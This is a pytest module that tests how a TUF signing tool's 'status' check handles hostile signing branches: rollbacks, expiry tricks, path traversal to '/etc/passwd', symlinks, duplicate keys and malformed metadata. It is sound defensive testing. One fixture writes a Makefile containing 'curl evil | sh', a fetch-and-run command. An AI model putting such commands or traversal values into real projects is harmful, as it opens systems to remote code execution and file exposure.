"""Hostile signing events: branches an attacker with push access to sign/* (but
no offline keys) could create.  Each must be rejected by `status` (exit 4)
with the specific finding; honest events of the same shape must pass.

One repository is built per module (root and targets signed by @alice, a
delegated role `releases`, artifacts in both) and each scenario is a branch.
Before every test the world is put back as it was built (origin's branches,
then every clone's main and work tree), so no test sees another's merges or
branches and the tests pass in any order.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import _CLEARED_ENV, _ISOLATED_ENV, NOW, World, day, git, init_repo, out, run
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from securesystemslib.signer import Key, SSlibKey

from tufrepo.core.fields import spec_keyid

EXPIRES_OK = (NOW + timedelta(days=30)).strftime("%Y-%m-%dT%H:%M:%SZ")


@dataclass
class Base:
    world: World
    attacker: Path
    refs: dict[str, str]  # origin's refs as built: refname -> commit

    @property
    def clones(self) -> list[Path]:
        return [self.world.ci, self.attacker, *(u.clone for u in self.world.users.values())]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Base]:
    """The world, built once per module (see :func:`base` for each test's copy of it)."""
    tmp = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HOME", str(tmp))
        mp.setenv("GIT_CONFIG_GLOBAL", str(tmp / ".gitconfig"))
        for key, value in _ISOLATED_ENV.items():
            mp.setenv(key, value)
        for key in _CLEARED_ENV:
            mp.delenv(key, raising=False)
        world = _build(tmp)
        built = Base(world, world.root / "attacker", _refs(world.origin))
        for clone in built.clones:
            git(clone, "fetch", "-q", "origin")  # every clone holds the built main (see _reset)
        yield built


@pytest.fixture
def base(built: Base) -> Base:
    """The built world, reset: no test depends on what another pushed, merged or left behind."""
    _reset(built)
    assert _refs(built.world.origin) == built.refs
    built.world.now = NOW
    return built


def _refs(repo: Path) -> dict[str, str]:
    listing = git(repo, "for-each-ref", "--format=%(objectname) %(refname)")
    return {ref: commit for commit, ref in (line.split(" ", 1) for line in listing.splitlines())}


# Every clone back to the built main, without a fetch (every clone holds that
# commit): its other branches and remote-tracking refs deleted, the work tree
# clean except the signer's settings file (which is not in git).
_RESET_CLONES = """
main=$1; shift
for clone in "$@"; do
  git -C "$clone" checkout -q -f -B main "$main"
  git -C "$clone" clean -q -f -d -x -e /.tuf-on-ci-sign.ini
  { git -C "$clone" for-each-ref --format='delete %(refname)' refs/heads refs/remotes refs/tags |
      grep -v -x -e 'delete refs/heads/main' -e 'delete refs/remotes/origin/main' \
        -e 'delete refs/remotes/origin/HEAD' || true
    echo "update refs/remotes/origin/main $main"
  } | git -C "$clone" update-ref --stdin
done
"""


def _reset(base: Base) -> None:
    now = _refs(base.world.origin)
    commands = [f"delete {ref}\n" for ref in sorted(now.keys() - base.refs.keys())]
    commands += [
        f"update {ref} {c}\n" for ref, c in sorted(base.refs.items()) if now.get(ref) != c
    ]
    if commands:
        subprocess.run(["git", "update-ref", "--stdin"], cwd=base.world.origin, input="".join(commands),
                       text=True, check=True)  # fmt: skip
    main = base.refs["refs/heads/main"]
    subprocess.run(["bash", "-e", "-o", "pipefail", "-c", _RESET_CLONES, "reset", main,
                    *map(str, base.clones)], check=True)  # fmt: skip


def _build(tmp: Path) -> World:
    root = tmp / "world"
    (root / "keys").mkdir(parents=True)
    from securesystemslib.signer import CryptoSigner  # noqa: PLC0415

    (root / "keys" / "online.pem").write_bytes(CryptoSigner.generate_ed25519().private_bytes)
    git(root, "init", "-q", "--bare", "-b", "main", "origin.git")
    git(root, "clone", "-q", "origin.git", "ci")
    (root / "ci" / "README.md").write_text("repo\n")
    git(root / "ci", "add", "README.md")
    git(root / "ci", "commit", "-q", "-m", "init")
    git(root / "ci", "push", "-q", "origin", "main")
    world = World(root)
    alice = world.user("alice")
    assert init_repo(world, alice).exit_code == 0
    world.merge("sign/init")
    assert (
        alice.tufrepo("delegate", "sign/deleg", "releases", "--key", alice.key_uri).exit_code == 0
    )
    world.merge("sign/deleg")
    alice.push_files("sign/files", {"targets/top.txt": "top\n", "targets/releases/a.txt": "a\n"})
    assert world.ci_run("update-targets", "--push", event="sign/files").exit_code == 0
    assert alice.sign("sign/files").exit_code == 0
    assert world.status("sign/files")[0] == 0
    world.merge("sign/files")
    assert world.ci_run("online-sign", "--push").exit_code == 0
    git(root, "clone", "-q", "origin.git", "attacker")
    return world


# --- helpers for editing metadata as an attacker would (no keys) ---------------


def load(clone: Path, role: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((clone / "metadata" / f"{role}.json").read_text())
    return data


def save(clone: Path, role: str, data: dict[str, Any], *, bump: bool = True) -> None:
    if bump:
        data["signed"]["version"] += 1
        data["signed"]["expires"] = EXPIRES_OK
        for sig in data["signatures"]:
            sig["sig"] = ""
    text = json.dumps(data, indent=1, sort_keys=True)
    (clone / "metadata" / f"{role}.json").write_text(text)
    if role == "root":
        version = data["signed"]["version"]
        (clone / "metadata" / "root_history" / f"{version}.root.json").write_text(text)


def edit(
    role: str, change: Callable[[dict[str, Any]], None], *, bump: bool = True
) -> Callable[[Path], None]:
    def apply(clone: Path) -> None:
        data = load(clone, role)
        change(data["signed"])
        save(clone, role, data, bump=bump)

    return apply


def write(path: str, content: bytes) -> Callable[[Path], None]:
    def apply(clone: Path) -> None:
        (clone / path).parent.mkdir(parents=True, exist_ok=True)
        (clone / path).write_bytes(content)

    return apply


def chain(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def apply(clone: Path) -> None:
        for step in steps:
            step(clone)

    return apply


def _set(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda signed: signed.__setitem__(key, value)


def _add_target(path: str, content: bytes) -> Callable[[Path], None]:
    import hashlib  # noqa: PLC0415

    def apply(clone: Path) -> None:
        role = "releases" if path.startswith("releases/") else "targets"
        data = load(clone, role)
        data["signed"]["targets"][path] = {
            "length": len(content),
            "hashes": {"sha256": hashlib.sha256(content).hexdigest()},
        }
        save(clone, role, data)

    return apply


def _delegation(change: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    return lambda signed: change(signed["delegations"]["roles"][0])


def _root_keyid_tamper(signed: dict[str, Any]) -> None:
    keys = signed["keys"]
    old = next(k for k, v in keys.items() if "x-tuf-on-ci-keyowner" in v)
    keys["f" * 64] = keys.pop(old)
    for role in signed["roles"].values():
        role["keyids"] = ["f" * 64 if k == old else k for k in role["keyids"]]


def _online_key_scheme(signed: dict[str, Any]) -> None:
    keyid = signed["roles"]["timestamp"]["keyids"][0]
    signed["keys"][keyid]["scheme"] = "rsa-pkcs1v15-sha1"


def _stray_signature(clone: Path) -> None:
    data = load(clone, "targets")
    data["signatures"].append({"keyid": "e" * 64, "sig": ""})
    save(clone, "targets", data)


def _remove_history(clone: Path) -> None:
    (clone / "metadata" / "root_history" / "1.root.json").unlink()


def _history_gap(clone: Path) -> None:
    data = load(clone, "root")
    data["signed"]["version"] = 2
    data["signed"]["expires"] = EXPIRES_OK
    text = json.dumps(data, indent=1, sort_keys=True)
    (clone / "metadata" / "root.json").write_text(text)
    (clone / "metadata" / "root_history" / "3.root.json").write_text(text)


def _history_differs(clone: Path) -> None:
    edit("root", _set("x-note", "a"))(clone)
    path = clone / "metadata" / "root_history" / "2.root.json"
    path.write_text(path.read_text().replace('"x-note": "a"', '"x-note": "b"'))


def _new_root_without_history(clone: Path) -> None:
    edit("root", _set("x-note", "a"))(clone)
    (clone / "metadata" / "root_history" / "2.root.json").unlink()


def _symlink(name: str, to: str) -> Callable[[Path], None]:
    def apply(clone: Path) -> None:
        (clone / "targets" / name).symlink_to(to)

    return apply


def _nested(signed: dict[str, Any]) -> None:
    signed["delegations"] = {
        "keys": {},
        "roles": [
            {
                "name": "sub",
                "keyids": [],
                "threshold": 1,
                "terminating": True,
                "paths": ["releases/sub/*"],
            }
        ],
    }


def _copy(src: str, dst: str) -> Callable[[Path], None]:
    def apply(clone: Path) -> None:
        shutil.copyfile(clone / src, clone / dst)

    return apply


def _succinct(signed: dict[str, Any]) -> None:
    # hash bins delegated to an outsider's key: a shape tufrepo does not walk
    outsider = SSlibKey.from_crypto(Ed25519PrivateKey.generate().public_key())
    signed["delegations"] = {
        "keys": {outsider.keyid: outsider.to_dict()},
        "succinct_roles": {
            "keyids": [outsider.keyid], "threshold": 1, "bit_length": 1, "name_prefix": "bin",
        },
    }  # fmt: skip


def _second_delegation(name: str) -> Callable[[dict[str, Any]], None]:
    def change(signed: dict[str, Any]) -> None:
        first = signed["delegations"]["roles"][0]
        signed["delegations"]["roles"].append(dict(first, name=name, paths=["other/*"]))

    return change


def _duplicate_root_key(signed: dict[str, Any]) -> None:
    # the signer's public key again, under another keyid and another keyowner
    keys = signed["keys"]
    keyid = signed["roles"]["root"]["keyids"][0]
    copy = dict(keys[keyid], **{"x-tuf-on-ci-keyowner": "@mallory"})
    copy_id = spec_keyid(Key.from_dict("x", dict(copy)))
    keys[copy_id] = copy
    signed["roles"]["root"]["keyids"].append(copy_id)
    signed["roles"]["root"]["threshold"] = 2


def _duplicate_delegated_key(signed: dict[str, Any]) -> None:
    keys = signed["delegations"]["keys"]
    role = signed["delegations"]["roles"][0]
    copy = dict(keys[role["keyids"][0]], **{"x-tuf-on-ci-keyowner": "@mallory"})
    copy_id = spec_keyid(Key.from_dict("x", dict(copy)))
    keys[copy_id] = copy
    role["keyids"].append(copy_id)


def _new_root_key(keytype: str, scheme: str, public: str) -> Callable[[dict[str, Any]], None]:
    def change(signed: dict[str, Any]) -> None:
        key = {"keytype": keytype, "scheme": scheme, "keyval": {"public": public},
               "x-tuf-on-ci-keyowner": "@mallory"}  # fmt: skip
        keyid = spec_keyid(Key.from_dict("x", dict(key)))
        signed["keys"][keyid] = key
        signed["roles"]["root"]["keyids"].append(keyid)

    return change


def _rsa_pem(bits: int) -> str:
    private = rsa.generate_private_key(public_exponent=65537, key_size=bits)
    return _pem(private.public_key())


def _ec_pem() -> str:
    return _pem(ec.generate_private_key(ec.SECP256R1()).public_key())


def _pem(public: Any) -> str:
    data: bytes = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return data.decode()


SCENARIOS: dict[str, tuple[Callable[[Path], None], str]] = {  # all exit 4
    # version rules
    "root-version-plus-two": (
        edit("root", lambda s: s.update(version=s["version"] + 1)),
        "version",
    ),
    "root-payload-same-version": (
        edit("root", _set("x-note", "changed"), bump=False),
        "version-reused",
    ),
    "targets-version-down": (
        edit("targets", lambda s: s.update(version=s["version"] - 2)),
        "rollback",
    ),
    "delegated-payload-same-version": (
        edit("releases", _set("x-note", "x"), bump=False),
        "version-reused",
    ),
    "online-threshold-same-version": (
        edit("root", lambda s: s["roles"]["timestamp"].update(threshold=2), bump=False),
        "version-reused",
    ),
    # expiry and periods
    "expiry-too-far": (
        chain(
            edit("targets", lambda s: None),
            edit("targets", _set("expires", "2036-01-01T00:00:00Z"), bump=False),
        ),
        "expiry-too-far",
    ),
    "expired": (
        chain(
            edit("targets", lambda s: None),
            edit("targets", _set("expires", day(-20)), bump=False),
        ),
        "expired",
    ),
    "expiry-period-zero": (edit("targets", _set("x-tuf-on-ci-expiry-period", 0)), "periods"),
    "expiry-period-string": (edit("targets", _set("x-tuf-on-ci-expiry-period", "365")), "periods"),
    "signing-period-not-shorter": (
        edit("targets", _set("x-tuf-on-ci-signing-period", 400)),
        "periods",
    ),
    "online-periods-insane": (
        edit("root", lambda s: s["roles"]["timestamp"].update({"x-tuf-on-ci-signing-period": 5})),
        "periods",
    ),
    "timestamp-expiry-period-huge": (
        edit(
            "root", lambda s: s["roles"]["timestamp"].update({"x-tuf-on-ci-expiry-period": 36500})
        ),
        "periods",
    ),
    "expiry-period-overflow": (
        edit("targets", _set("x-tuf-on-ci-expiry-period", 10**30)),
        "periods",
    ),
    # online files
    "snapshot-changed": (edit("snapshot", lambda s: None), "online-role-changed"),
    "timestamp-changed": (
        edit("timestamp", _set("expires", "2030-01-01T00:00:00Z"), bump=False),
        "online-role-changed",
    ),
    "consistent-snapshot-off": (
        edit("root", _set("consistent_snapshot", False)),
        "consistent-snapshot",
    ),
    "online-signers-differ": (
        edit("root", lambda s: s["roles"]["snapshot"].update(threshold=2)),
        "online-signers",
    ),
    # root_history
    "history-modified": (write("metadata/root_history/1.root.json", b"{}"), "root-history"),
    "history-removed": (_remove_history, "root-history"),
    "history-missing-new-root": (_new_root_without_history, "root-history"),
    "history-differs-from-root": (_history_differs, "root-history"),
    "history-gap": (_history_gap, "root-history"),
    # delegations
    "role-without-delegation": (
        _copy("metadata/releases.json", "metadata/rogue.json"),
        "not-delegated",
    ),
    "delegation-without-role-file": (
        edit(
            "targets",
            lambda s: s["delegations"]["roles"].append(
                {
                    "name": "ghost",
                    "keyids": [],
                    "threshold": 1,
                    "terminating": True,
                    "paths": ["ghost/*"],
                }
            ),
        ),
        "missing-role-file",
    ),
    "delegation-paths-changed-not-resigned": (
        edit("targets", _delegation(lambda r: r.update(paths=["*"]))),
        "path-outside-delegation",
    ),
    "succinct-hash-bins-to-outsider": (edit("targets", _succinct), "succinct-delegation"),
    "role-name-case-collision": (
        chain(
            edit("targets", _second_delegation("Releases")),
            _copy("metadata/releases.json", "metadata/Releases.json"),
        ),
        "role-name-collision",
    ),
    "role-name-shadows-top-level": (
        edit("targets", _delegation(lambda r: r.update(name="Root"))),
        "role-name-collision",
    ),
    "role-name-trailing-newline": (
        edit("targets", _delegation(lambda r: r.update(name="releases\n"))),
        "unsafe-role-name",
    ),
    "nested-delegation": (edit("releases", _nested), "nested-delegation"),
    "unsafe-role-name": (
        edit("targets", _delegation(lambda r: r.update(name="../evil"))),
        "unsafe-role-name",
    ),
    # targets
    "path-outside-delegation": (
        _add_target("releases/../top.txt", b"top\n"),
        "unsafe-target-path",
    ),
    "delegated-lists-foreign-path": (
        edit(
            "releases",
            lambda s: s["targets"].update(
                {"other/x.txt": {"length": 1, "hashes": {"sha256": "00" * 32}}}
            ),
        ),
        "path-outside-delegation",
    ),
    "dotdot-path": (
        edit(
            "targets",
            lambda s: s["targets"].update(
                {"../x": {"length": 1, "hashes": {"sha256": "00" * 32}}}
            ),
        ),
        "unsafe-target-path",
    ),
    "absolute-path": (
        edit(
            "targets",
            lambda s: s["targets"].update(
                {"/etc/passwd": {"length": 1, "hashes": {"sha256": "00" * 32}}}
            ),
        ),
        "unsafe-target-path",
    ),
    "backslash-path": (
        edit(
            "targets",
            lambda s: s["targets"].update(
                {"a\\b": {"length": 1, "hashes": {"sha256": "00" * 32}}}
            ),
        ),
        "unsafe-target-path",
    ),
    "symlink-file": (_symlink("link.txt", "/etc/passwd"), "artifact-file"),
    "symlink-dir": (_symlink("linkdir", "/etc"), "artifact-file"),
    "case-collision": (chain(write("targets/Top.txt", b"top\n")), "path-collision"),
    "unicode-collision": (
        chain(
            write("targets/caf\u00e9.txt", b"1"),
            write(unicodedata.normalize("NFD", "targets/caf\u00e9.txt"), b"2"),
        ),
        "path-collision",
    ),
    # keys
    "keyid-not-hash": (edit("root", _root_keyid_tamper), "keyid"),
    "unsupported-key-scheme": (edit("root", _online_key_scheme), "key-unusable"),
    "same-key-under-two-keyids": (edit("root", _duplicate_root_key), "duplicate-key"),
    "delegated-same-key-twice": (edit("targets", _duplicate_delegated_key), "duplicate-key"),
    "key-not-a-public-key": (
        edit("root", _new_root_key("ed25519", "ed25519", "00" * 7)),
        "key-unusable",
    ),
    "rsa-key-too-small": (
        edit("root", _new_root_key("rsa", "rsassa-pss-sha256", _rsa_pem(1024))),
        "key-unusable",
    ),
    "ecdsa-curve-mismatch": (
        edit("root", _new_root_key("ecdsa", "ecdsa-sha2-nistp384", _ec_pem())),
        "key-unusable",
    ),
    # malformed
    "malformed-json": (write("metadata/targets.json", b"{"), "malformed"),
    "wrong-type": (_copy("metadata/root.json", "metadata/targets.json"), "malformed"),
    "huge-file": (write("metadata/releases.json", b" " * (17 * 1024 * 1024)), "malformed"),
    "deeply-nested": (write("metadata/releases.json", b"[" * 100000 + b"]" * 100000), "malformed"),
}


def _push_event(base: Base, name: str, mutate: Callable[[Path], None]) -> str:
    clone = base.attacker
    event = f"sign/hostile-{name}"
    git(clone, "fetch", "-q", "--prune")
    git(clone, "checkout", "-q", "-f", "-B", event, "origin/main")
    git(clone, "clean", "-q", "-f", "-d", "-x")
    mutate(clone)
    git(clone, "add", "-A")
    git(clone, "commit", "-q", "-m", f"hostile: {name}")
    git(clone, "push", "-q", "-f", "origin", event)
    return event


@pytest.mark.parametrize("name", sorted(SCENARIOS))
def test_hostile_event_is_rejected(base: Base, name: str) -> None:
    mutate, code = SCENARIOS[name]
    event = _push_event(base, name, mutate)
    exit_code, status = base.world.status(event)
    codes = sorted({f["code"] for f in status["findings"]})
    assert exit_code == 4, (name, status)
    assert code in codes, (name, codes, status["findings"])


def test_stale_event_is_rejected(base: Base) -> None:
    world = base.world
    event = _push_event(base, "stale", write("targets/new.txt", b"new\n"))
    assert world.ci_run("update-targets", "--push", event=event).exit_code == 0
    # meanwhile an honest change to targets lands on main
    alice = world.users["alice"]
    assert alice.tufrepo("delegate", "sign/honest-ts", "targets", "--expiry", "300",
                         "--key", alice.key_uri).exit_code == 0  # fmt: skip
    world.merge("sign/honest-ts")
    exit_code, status = world.status(event)
    assert exit_code == 4
    assert "stale-event" in {f["code"] for f in status["findings"]}


# Shapes that are not attacks: real repositories make them (tuf-on-ci's own
# tools, or an event beside a workflow update).  Each gets its specific
# non-error finding and waits (exit 3) instead of being rejected.
ACCEPTED: dict[str, tuple[Callable[[Path], None], str | None, str | None]] = {
    # tuf-on-ci's update-targets skips versions; the spec only asks for an increase
    "targets-version-plus-two": (
        edit("targets", lambda s: s.update(version=s["version"] + 1)), None, None,
    ),
    # artifacts changed but update-targets has not run yet
    "file-not-listed": (write("targets/extra.txt", b"extra\n"), "targets-mismatch", "waiting"),
    "file-does-not-match": (
        write("targets/top.txt", b"tampered\n"), "targets-mismatch", "waiting",
    ),
    "listed-without-file": (_add_target("ghost.txt", b"ghost\n"), "targets-mismatch", "waiting"),
    # a delegation change whose role no longer verifies: its signers must re-sign
    "delegation-keys-changed-not-resigned": (
        edit("targets", _delegation(lambda r: r.update(keyids=[]))),
        "delegation-not-resigned", "waiting",
    ),
    "delegation-threshold-changed-not-resigned": (
        edit("targets", _delegation(lambda r: r.update(threshold=2))),
        "delegation-not-resigned", "waiting",
    ),
    # clients ignore signatures of keys a role does not list; tufrepo drops them
    "stray-empty-signature": (_stray_signature, "stray-signature", "warning"),
    # files outside metadata/ and targets/: a prominent warning for the signers
    "workflow-change": (
        write(".github/workflows/evil.yml", b"on: push\n"), "outside-change", "warning",
    ),
    "makefile-change": (
        write("Makefile", b"all:\n\tcurl evil | sh\n"), "outside-change", "warning",
    ),
    # tuf-on-ci never lists dotfiles: they are not artifacts
    "dotfile-in-targets": (write("targets/.gitkeep", b""), None, None),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_accepted_shape_waits_with_its_finding(base: Base, name: str) -> None:
    mutate, code, severity = ACCEPTED[name]
    event = _push_event(base, f"ok-{name}", mutate)
    exit_code, status = base.world.status(event)
    found = {(f["code"], f["severity"]) for f in status["findings"]}
    assert exit_code == 3, (name, status)
    assert not [f for f in status["findings"] if f["severity"] == "error"], status
    if code is not None:
        assert (code, severity) in found, (name, found)


def test_outside_changes_can_be_refused(base: Base) -> None:
    event = _push_event(base, "refused-workflow", write(".github/workflows/x.yml", b"on: push\n"))
    base.world.ci_run("status", event=event)
    result = run("-C", str(base.world.ci), "--json", "status", "--refuse-outside-changes")
    status = json.loads(result.stdout.splitlines()[0])
    assert result.exit_code == 4
    assert [f["code"] for f in status["findings"]] == ["outside-change"]


def test_event_without_common_history_is_rejected(base: Base) -> None:
    # a complete repository signed by an outsider, pushed with no merge-base with main
    world, clone = base.world, base.attacker
    git(clone, "fetch", "-q", "--prune")
    git(clone, "checkout", "-q", "-f", "--orphan", "sign/orphan", "origin/main")
    git(clone, "commit", "-q", "-m", "a repository of my own")
    git(clone, "push", "-q", "-f", "origin", "sign/orphan")
    result = world.ci_run("status", event="sign/orphan")
    assert result.exit_code == 4
    assert "shares no history with main" in out(result)


def test_shallow_checkout_is_deepened_before_judging(base: Base, tmp_path: Path) -> None:
    # actions/checkout's default depth 1: known good must still be the real merge-base
    world = base.world
    event = _push_event(base, "shallow-history-rewrite",
                        edit("root", _set("x-note", "rewritten"), bump=False))  # fmt: skip
    shallow = tmp_path / "shallow"
    git(tmp_path, "clone", "-q", "--depth", "1", "--no-single-branch",
        f"file://{world.origin}", str(shallow))  # fmt: skip
    git(shallow, "checkout", "-q", event)
    assert git(shallow, "rev-parse", "--is-shallow-repository") == "true"
    result = run("-C", str(shallow), "--json", "status")
    status = json.loads(result.stdout.splitlines()[0])
    assert result.exit_code == 4, status
    assert "version-reused" in {f["code"] for f in status["findings"]}
    assert git(shallow, "rev-parse", "--is-shallow-repository") == "false"


# --- honest events of the same shapes pass ------------------------------------------


def test_honest_artifact_change_passes(base: Base) -> None:
    world, alice = base.world, base.world.users["alice"]
    event = _push_event(base, "honest-artifacts", chain(
        write("targets/top.txt", b"new top\n"), write("targets/releases/b/c.txt", b"c\n")))  # fmt: skip
    assert world.ci_run("update-targets", "--push", event=event).exit_code == 0
    assert alice.sign(event).exit_code == 0
    code, status = world.status(event)
    assert code == 0, status


@pytest.mark.parametrize(
    "args",
    [
        ("releases", "--signer", "@alice", "--threshold", "1", "--path", "releases/*"),
        ("timestamp", "--expiry", "7", "--signing-period", "6"),
        ("targets", "--expiry", "200"),
        ("newrole",),
    ],
    ids=["delegation-paths", "online-periods", "targets-periods", "new-delegation"],
)
def test_honest_delegation_change_passes(base: Base, args: tuple[str, ...]) -> None:
    world, alice = base.world, base.world.users["alice"]
    event = f"sign/honest-{args[0]}-{len(args)}"
    result = alice.tufrepo("delegate", event, *args, "--key", alice.key_uri)
    assert result.exit_code == 0, result.output
    code, status = world.status(event)
    assert code == 0, status


def test_honest_delegation_removal_passes(base: Base) -> None:
    world, alice = base.world, base.world.users["alice"]
    event = "sign/honest-remove"
    alice.push_files(event, {"targets/releases": None})
    assert (
        alice.tufrepo("delegate", event, "releases", "--remove", "--key", alice.key_uri).exit_code
        == 0
    )
    code, status = world.status(event)
    assert code == 0, status


def test_signing_drops_signatures_of_keys_the_role_no_longer_lists(base: Base) -> None:
    # clients ignore such signatures (a warning in status); tufrepo drops them when it signs
    world, alice = base.world, base.world.users["alice"]
    event = _push_event(base, "drop-stray", _stray_signature)
    _, status = world.status(event)
    assert ("stray-signature", "warning") in {
        (f["code"], f["severity"]) for f in status["findings"]
    }
    assert alice.sign(event, "--yes").exit_code == 0
    git(base.attacker, "fetch", "-q", "origin")
    signed = json.loads(git(base.attacker, "show", f"origin/{event}:metadata/targets.json"))
    assert "e" * 64 not in {s["keyid"] for s in signed["signatures"]}
    code, status = world.status(event)
    assert code == 0, status


def test_deleting_top_level_roles_is_refused(base: Base) -> None:
    # red team: a removed role needed nobody's signature, so this was "Ready"
    def delete(clone: Path) -> None:
        (clone / "metadata" / "targets.json").unlink()
        (clone / "metadata" / "releases.json").unlink()

    event = _push_event(base, "delete-targets", delete)
    code, status = base.world.status(event)
    assert code == 4, status
    assert "role-removed" in {f["code"] for f in status["findings"]}


def test_a_hash_no_client_can_check_is_an_error_not_a_crash(base: Base) -> None:
    # red team: shake_128 made hexdigest() crash (exit 1)
    def shake(signed: dict[str, Any]) -> None:
        signed["targets"]["top.txt"]["hashes"]["shake_128"] = "00"

    event = _push_event(base, "shake-hash", edit("targets", shake))
    code, status = base.world.status(event)
    assert code == 4, status
    messages = [f["message"] for f in status["findings"]]
    assert "targets lists targets/top.txt with a hash of unknown algorithm 'shake_128'" in messages
